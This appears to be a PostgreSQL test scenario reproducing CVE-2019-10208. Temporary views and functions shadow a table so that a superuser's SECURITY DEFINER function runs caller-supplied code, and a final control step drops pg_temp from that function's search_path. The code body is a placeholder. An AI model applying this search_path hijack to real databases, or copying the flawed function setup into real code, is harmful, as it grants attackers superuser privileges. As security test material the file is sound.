-- way: have a superuser's SECURITY DEFINER function read a temporary view of the application, which calls its function
-- source: CVE-2019-10208
-- control: pg_temp is not named in the search_path of the superuser's function
-- section: setup
CREATE TABLE public.settings (value text);
CREATE FUNCTION public.setting() RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp
  AS $$ DECLARE result text; BEGIN SELECT value INTO result FROM settings; RETURN result; END $$;
-- section: application
CREATE FUNCTION pg_temp.f() RETURNS text LANGUAGE plpgsql AS :'note';
CREATE TEMP VIEW settings AS SELECT pg_temp.f() AS value;
CREATE FUNCTION shop.f() RETURNS text LANGUAGE plpgsql AS :'note';
CREATE VIEW shop.settings AS SELECT shop.f() AS value;
SET search_path = pg_temp, shop, public;
SELECT public.setting();
-- section: again
CREATE FUNCTION pg_temp.f() RETURNS text LANGUAGE plpgsql AS :'note';
CREATE TEMP VIEW settings AS SELECT pg_temp.f() AS value;
SELECT public.setting();
-- section: control
ALTER FUNCTION public.setting() SET search_path = public;
